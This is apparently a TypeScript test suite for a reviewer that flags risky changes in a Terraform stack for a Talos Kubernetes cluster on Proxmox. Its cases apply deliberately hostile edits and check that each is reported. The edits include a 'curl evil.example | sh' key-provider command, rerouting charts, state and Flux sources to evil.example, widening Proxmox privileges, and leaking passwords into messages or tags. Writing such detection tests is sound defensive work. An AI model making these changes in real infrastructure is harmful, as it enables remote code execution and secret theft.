import { StateEncryption } from "../constructs";
import {
  type Any,
  data,
  type Inputs,
  inputs,
  pageFor,
  patch,
  provider,
  resource,
  schematic,
  summaryOf,
  values,
  vm,
} from "./changed-stack";
import { csi } from "./fixtures/proxmox-csi";
import { ownScripts } from "./script-files";
import { synthesizedJson } from "./stacks";

type Case = readonly [name: string, change: (inputs: Inputs) => unknown, line: RegExp];

const release = (name: string, from: string, to: string) => (changed: Inputs) => {
  const { values } = changed.stack.resource.helm_release[name];
  expect(values[0]).toContain(from);
  values[0] = values[0].replaceAll(from, to);
};
const first = (type: string, change: object) => (changed: Inputs) =>
  Object.assign(Object.values<Any>(changed.stack.resource[type])[0], change);
const document = (kind: string, body: object = {}) => patch({ apiVersion: "v1alpha1", kind, name: "evil", ...body });
const backend = (body: object) => (changed: Inputs) => {
  changed.stack.terraform.backend = body;
};

const encryption = (body: object) => (changed: Inputs) => {
  changed.stack.terraform.encryption = body;
};

const linesOf = (stack: Inputs): string[] => summaryOf(pageFor(stack)).split("\n");

const gitops: readonly Case[] = [
  ["another repository of Flux", release("flux", "git.example", "evil.example"), /evil[.]example.*fetched from/],
  ["another path of Flux", release("flux", "clusters/talos-gitops", "evil"), /Values of `helm_release[.]flux` \(/],
  ["another branch of Flux", release("flux", "heads/main", "heads/evil"), /Values of `helm_release[.]flux` \(/],
  [
    "another registry of Flux",
    release("flux", "version: 2.8.x", "registry: evil.example/flux"),
    /helm_release[.]flux`.*another source of images/,
  ],
  [
    "an artifact of Flux",
    release("flux", "version: 2.8.x", "artifact: oci://evil.example/flux"),
    /oci:..evil[.]example/,
  ],
  ["Flux's web page", values("flux_operator", { web: { ingress: { enabled: true } } }), /reached from outside/],
  ["Flux for all namespaces", values("flux_operator", { multitenancy: { enabled: false } }), /permissions of pods/],
  ["Flux's namespace", release("flux_operator_namespace", "baseline", "privileged"), /a namespace for privileged pods/],
];

const inference: readonly Case[] = [
  [
    "the gateway's address for a service",
    values("ollama", { service: { annotations: { "lbipam.cilium.io/ips": "192.168.1.1" } } }),
    /Values of `helm_release[.]ollama` \(/,
  ],
  ["models without TLS", values("ollama", { ollama: { insecure: true } }), /a check of TLS/],
  ["another model", release("ollama", "llama3.2", "evil.example/model"), /Values of `helm_release[.]ollama` \(/],
  ["another image of a chart", values("ollama", { image: { repository: "evil/x" } }), /another source of images/],
  [
    "volumes on another path of the node",
    release("storage", "/var/mnt/local", "/var/lib/kubelet"),
    /helm_release[.]storage`.*a path of the node.*missing or other/,
  ],
  ["what OpenEBS reports", release("storage", "enabled: false", "enabled: true"), /missing or other/],
  [
    "another image for volumes",
    values("storage", { helperPod: { image: { repository: "evil/linux-utils" } } }),
    /helm_release[.]storage`.*another source of images; images for privileged pods/,
  ],
  ["privileged helpers", values("storage", { localpv: { privileged: true } }), /a privileged pod/],
  [
    "another provisioner",
    release("storage_prerequisites", "openebs.io/local", "evil.example/x"),
    /another program that makes volumes/,
  ],
  [
    "another chart for volumes",
    (changed) => {
      changed.stack.resource.helm_release.storage.repository = "https://evil.example";
    },
    /helm_release[.]storage`.*: not from https.*openebs[.]github[.]io/,
  ],
  [
    "another disk for volumes",
    (changed) => {
      const patches = changed.stack.data.talos_machine_configuration.node.config_patches;
      patches.forEach((each: string, index: number) => {
        patches[index] = each.replace("drive-scsi1", "drive-scsi0");
      });
    },
    /UserVolumeConfig.*a disk of the node/,
  ],
  [
    "a pool with the gateway",
    release("cilium_load_balancer", "start: 192.168.1.240", "start: 192.168.1.1"),
    /helm_release[.]cilium_load_balancer` \(/,
  ],
  [
    "another kind of announcement",
    release("cilium_load_balancer", "CiliumL2AnnouncementPolicy", "CiliumBGPClusterConfig"),
    /of a kind that the project does not install/,
  ],
];

const ofCsi: readonly Case[] = [
  [
    "another storage for the CSI driver",
    first("proxmox_acl", { path: "/storage/backup" }),
    /Accounts.*storage[/]backup/,
  ],
  ["all of Proxmox for the CSI driver", first("proxmox_acl", { path: "/" }), /an account on Proxmox/],
  ["a role of Proxmox's own", first("proxmox_acl", { role_id: "Administrator" }), /what `Administrator` may/],
  ["another account of the driver", first("proxmox_acl", { user_id: "evil@pve" }), /`evil@pve` may/],
  [
    "a role at the wrong place",
    (changed) => {
      for (const acl of Object.values<Any>(changed.stack.resource.proxmox_acl))
        acl.role_id = "${proxmox_virtual_environment_role.csi_vm.role_id}";
    },
    /Accounts.*`VM[.]Config[.]Disk` on `[/]storage/,
  ],
  [
    "a further privilege",
    first("proxmox_virtual_environment_role", { privileges: ["Datastore.Audit", "Sys.Modify"] }),
    /Sys[.]Modify/,
  ],
  ["a password of the driver", first("proxmox_virtual_environment_user", { password: "x" }), /an account on Proxmox/],
  ["groups of the driver", first("proxmox_virtual_environment_user", { groups: ["admins"] }), /an account on Proxmox/],
  ["a token with all privileges", first("proxmox_user_token", { token_name: "root" }), /an account on Proxmox/],
  ["another Proxmox for the driver", release("csi", "https://pve.example", "https://evil.example"), /evil[.]example/],
  ["a driver without TLS", release("csi", '"insecure" = false', '"insecure" = true'), /a check of TLS/],
  [
    "a class on another storage",
    release("csi", '"storage" = "local-lvm"', '"storage" = "x"'),
    /helm_release[.]csi` \(/,
  ],
  [
    "another key of the secret",
    (changed) => {
      changed.stack.resource.helm_release.csi.set_wo[0].name = "config.clusters[0].url";
    },
    /values of a chart/,
  ],
  [
    "another secret for the driver",
    (changed) => {
      changed.stack.resource.helm_release.csi.set_wo[0].value = "${talos_machine_secrets.cluster.machine_secrets}";
    },
    /values of a chart/,
  ],
  [
    "the secret for another chart",
    (changed) => {
      changed.stack.resource.helm_release.csi.chart = "oci://evil.example/proxmox-csi-plugin";
    },
    /values of a chart/,
  ],
  [
    "what the inputs of the driver install",
    release("csi_inputs", '"kind" = "ConfigMap"', '"kind" = "Secret"'),
    /Values of `helm_release[.]csi_inputs` \(/,
  ],
];

const cilium: readonly Case[] = [
  ["an egress gateway", { egressGateway: { enabled: true } }, /from where it reaches others/],
  ["BGP", { bgpControlPlane: { enabled: true } }, /reached from outside/],
  ["a gateway on the host's network", { gatewayAPI: { hostNetwork: { enabled: true } } }, /reached from outside/],
  ["an ingress for everything", { ingressController: { enabled: true, default: true } }, /reached from outside/],
  ["ports of the nodes", { nodePort: { range: "1,65535" } }, /reached from outside/],
  ["Envoy's own configuration", { envoyConfig: { enabled: true } }, /reached from outside/],
  ["Hubble for the network", { hubble: { listenAddress: "0.0.0.0:4244" } }, /a port that shows data/],
  ["metrics for the network", { prometheus: { enabled: true } }, /a port that shows data/],
  [
    "a health check for the network",
    { kubeProxyReplacementHealthzBindAddr: "0.0.0.0:10256" },
    /a port that shows data/,
  ],
  ["traffic that is redirected", { localRedirectPolicies: { enabled: true } }, /redirects the traffic/],
  [
    "identities of another server",
    { authentication: { mutual: { spire: { enabled: true } } } },
    /redirects the traffic/,
  ],
  ["passwords in Hubble", { hubble: { redact: { enabled: false } } }, /reads or redirects/],
  ["traffic in the log", { debug: { enabled: true, verbose: "envoy" } }, /reads or redirects/],
  ["no policies of Cilium", { enableCiliumNetworkPolicy: false }, /policies that have no effect/],
  ["traffic in plain text", { encryption: { strictMode: { enabled: false } } }, /without protection/],
  ["other labels for policies", { labels: "k8s:app" }, /network policies tell apart/],
  ["secrets of another namespace", { tls: { secretsNamespace: { name: "default" } } }, /secrets of another namespace/],
  ["another setting", { bpf: { masquerade: false } }, /Values of `helm_release[.]cilium` \(/],
].map(([name, change, line]) => [String(name), values("cilium", change), line as RegExp]);

const plugin: readonly Case[] = [
  ["GPUs for every pod", { deviceListStrategy: "envvar" }, /use a GPU, unasked/],
  ["a driver elsewhere on the node", { nvidiaDriverRoot: "/" }, /a path of the node/],
  ["a hook elsewhere on the node", { cdi: { nvidiaHookPath: "/tmp/evil" } }, /a path of the node/],
  [
    "pods on all nodes",
    { tolerations: [{ operator: "Exists" }] },
    /Values of `helm_release[.]nvidia_device_plugin` \(/,
  ],
  ["settings of another ConfigMap", { config: { name: "evil" } }, /Values of `helm_release[.]nvidia_device_plugin` \(/],
].map(([name, change, line]) => [String(name), values("nvidia_device_plugin", change), line as RegExp]);

const machine: readonly Case[] = [
  ["another disk to install to", patch({ machine: { install: { disk: "/dev/sdb" } } }), /another installation/],
  ["disks of the machine", patch({ machine: { disks: [{ device: "/dev/sdb" }] } }), /a disk of the node/],
  ["a volume of the node", document("ExistingVolumeConfig"), /a disk of the node/],
  ["a directory of the host", document("ExternalVolumeConfig", { filesystemType: "virtiofs" }), /a disk of the node/],
  [
    "images from the disk",
    patch({ machine: { features: { imageCache: { localEnabled: true } } } }),
    /source of images/,
  ],
  [
    "any certificate for Talos",
    patch({ machine: { features: { apidCheckExtKeyUsage: false } } }),
    /a protection of Talos/,
  ],
  ["no controller manager", patch({ machine: { controlPlane: { controllerManager: {} } } }), /settings of the control/],
  ["another domain of the cluster", patch({ cluster: { network: { dnsDomain: "evil.example" } } }), /names inside/],
  ["another name of the node", document("HostnameConfig", { hostname: "evil" }), /addresses, routes or devices/],
  ["a route to nowhere", document("BlackholeRouteConfig"), /addresses, routes or devices/],
  ["a rule for routes", document("RoutingRuleConfig"), /addresses, routes or devices/],
  ["what ends for lack of memory", document("OOMConfig"), /settings of the node's kernel/],
  ["settings of the kernel by their document", document("SysctlConfig"), /settings of the node's kernel/],
  ["a document of tomorrow", document("FutureConfig"), /a kind that this page does not know/],
  ["pods on a node", patch({ machine: { nodeTaints: { evil: "x:NoExecute" } } }), /nodeTaints[.]evil` \(/],
  ["a key in an image", schematic({ owner: "evil" }), /another part of the image/],
  ["memory that the host reads", vm({ amd_sev: [{ type: "std", no_debug: false }] }), /what the host sees/],
  ["a clipboard with the host", vm({ vga: [{ clipboard: "vnc" }] }), /at its screen/],
  ["disks that end with the VM", vm({ delete_unreferenced_disks_on_destroy: true }), /end with the VM/],
  ["another pool", vm({ pool_id: "evil" }), /the accounts of its pool/],
  ["a login of Terraform", vm({ connection: [{ host: "evil.example" }] }), /logs in to a machine/],
  ["a VM that anybody may delete", vm({ protection: false }), /protection: false/],
  [
    "no backup of a disk",
    (changed) => {
      changed.stack.resource.proxmox_virtual_environment_vm.talos_node.disk[0].backup = false;
    },
    /disk\[\][.]backup: false/,
  ],
];

const stack: readonly Case[] = [
  [
    "a program that gives the key of the state",
    encryption({ key_provider: { external: { evil: { command: ["sh", "-c", "curl evil.example | sh"] } } } }),
    /runs a program of this machine/,
  ],
  [
    "a key of the state elsewhere",
    encryption({ key_provider: { openbao: { evil: { address: "https://evil.example" } } } }),
    /another key, or less that is encrypted/,
  ],
  ["plans in plain text", encryption({ plan: { method: "${method.unencrypted.x}" } }), /less that is encrypted/],
  [
    "a password in a message",
    (changed) => {
      changed.stack.variable.proxmox_password.validation = [
        { condition: "${false}", error_message: "${nonsensitive(var.proxmox_password)}" },
      ];
    },
    /Message in `variable[.]proxmox_password.*prints a secret/,
  ],
  [
    "keys in a message",
    (changed) => {
      const { precondition } = changed.stack.resource.proxmox_virtual_environment_vm.talos_node.lifecycle;
      precondition[0].error_message = "${jsonencode(talos_machine_secrets.cluster.machine_secrets)}";
    },
    /prints a secret/,
  ],
  [
    "a password in Proxmox",
    vm({ description: "${var.proxmox_password}" }),
    /others may read it: var[.]proxmox_password/,
  ],
  ["keys in tags", vm({ tags: ["${talos_machine_secrets.cluster.machine_secrets}"] }), /others may read it/],
  ["a password for a chart", values("cilium", { x: "${var.proxmox_password}" }), /is given to a chart/],
  ["words as keys of an expression", patch('${yamlencode({machine = {pods = [{kind = "Pod"}]}})}'), /static pods/],
  ["keys that an expression makes", patch('${yamlencode({(join("", ["machine"])) = {}})}'), /cannot read/],
  ["keys with an expression in them", patch('${yamlencode({"${"machine"}" = {}})}'), /cannot read/],
  [
    "another release",
    (changed) => {
      changed.stack.resource.helm_release.cilium.name = "evil";
    },
    /how a chart is installed/,
  ],
  ["several VMs", vm({ count: 3 }), /how many there are/],
  ["blocks that are made", vm({ dynamic: { hostpci: { for_each: [1], content: {} } } }), /does not read/],
  [
    "an administrator for longer",
    (changed) => {
      changed.stack.resource.talos_cluster_kubeconfig.cluster.certificate_renewal_duration = "87600h";
    },
    /administrator's access/,
  ],
  ["a login to a registry", provider("helm", { registries: [{ url: "oci://evil.example" }] }), /settings of Helm/],
  ["a proxy of the Kubernetes API", provider("helm", { kubernetes: { proxy_url: "http://evil" } }), /another cluster/],
  [
    "a setting of a provider without any",
    (changed) => {
      changed.stack.provider.null = [{ evil: true }];
    },
    /a provider that has none/,
  ],
  [
    "an alias of a provider",
    (changed) => {
      changed.stack.terraform.required_providers.helm.configuration_aliases = ["evil"];
    },
    /a setting of Terraform/,
  ],
  [
    "a provider of the same name",
    (changed) => {
      changed.stack.terraform.required_providers.local.source = "registry.evil.example/hashicorp/local";
    },
    /registry[.]evil[.]example/,
  ],
  ["a state that everyone may read", backend({ s3: { bucket: "x", acl: "public-read" } }), /acl: public-read/],
  ["a state at a stranger's", backend({ remote: { hostname: "evil.example" } }), /evil[.]example/],
  ["a state in a folder of a web server", backend({ local: { path: "/var/www/x" } }), /[/]var[/]www/],
  ["another state that is read", data("terraform_remote_state", { backend: "http" }), /not of this project's/],
  ["a source of packages for the host", resource("proxmox_virtual_environment_apt_repository", {}), /not of this/],
  ["names of the host", resource("proxmox_virtual_environment_hosts", {}), /not of this project's/],
  [
    "an output more",
    (changed) => {
      changed.stack.output.evil = { value: "${helm_release.cilium.metadata}" };
    },
    /24 outputs/,
  ],
  [
    "a command at the end of a release",
    (changed) => {
      changed.stack.resource.helm_release.cilium.provisioner = [{ "local-exec": { command: "evil", when: "destroy" } }];
    },
    /a command on this machine/,
  ],
  [
    "a kubeconfig for everyone",
    (changed) => {
      changed.stack.resource.local_file.kubeconfig.directory_permission = "0777";
    },
    /a file on this machine/,
  ],
];

const csiInputs = (): Inputs => ({
  stack: synthesizedJson(csi({ storageClasses: [{ storage: "local-lvm" }] })),
  scripts: ownScripts(),
  charts: new Map(),
});

describe.each<readonly [string, () => Inputs, readonly Case[]]>([
  ["the default stack", () => inputs(), [...cilium, ...plugin, ...machine, ...stack]],
  ["a stack with Flux", () => inputs("examples/gitops.ts", "talos-gitops"), gitops],
  ["a stack with local volumes", () => inputs("examples/inference.ts", "talos-inference"), inference],
  ["a stack with volumes of Proxmox", csiInputs, ofCsi],
])("the summary of %s says of a change", (_, before, cases) => {
  let known: ReadonlySet<string>;
  beforeAll(() => {
    known = new Set(linesOf(before()));
  });
  test.each(cases)("%s", (_, change, line) => {
    const changed = before();
    change(changed);
    const made = linesOf(changed).filter((each) => !known.has(each));
    expect(made.join("\n")).toMatch(line);
  });
});

test("the passphrase of StateEncryption is nothing to look at twice", () => {
  const page = (migrate: boolean) => {
    const stack = synthesizedJson((scope) => void new StateEncryption(scope, "encryption", { migrate }));
    return summaryOf(pageFor({ ...inputs(), stack }));
  };
  for (const migrate of [true, false]) expect(page(migrate)).not.toContain("Terraform: `encryption`");
});

test("what the constructs for volumes do by themselves is nothing to look at twice", () => {
  const { stack, ...others } = csiInputs();
  const red = summaryOf(pageFor({ stack, ...others })).split("> [!CAUTION]")[1];
  expect(red).not.toMatch(/helm_release[.]csi`|proxmox-csi-plugin|csi_prerequisites|busybox/);
  const local = summaryOf(pageFor(inputs("examples/inference.ts", "talos-inference"))).split("> [!CAUTION]")[1];
  expect(local).not.toMatch(/helm_release[.]storage|openebs|storage_kept|busybox/);
});
